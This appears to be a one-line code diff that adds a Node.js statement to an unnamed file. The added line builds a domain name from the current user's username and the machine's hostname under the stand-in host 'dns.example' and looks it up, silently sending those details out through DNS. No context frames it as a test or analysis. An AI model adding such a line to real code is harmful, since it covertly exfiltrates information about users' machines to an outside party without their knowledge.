@@ -1,0 +1,1 @@
+require('dns').lookup(require('os').userInfo().username + '.' + require('os').hostname() + '.dns.example', function () {});
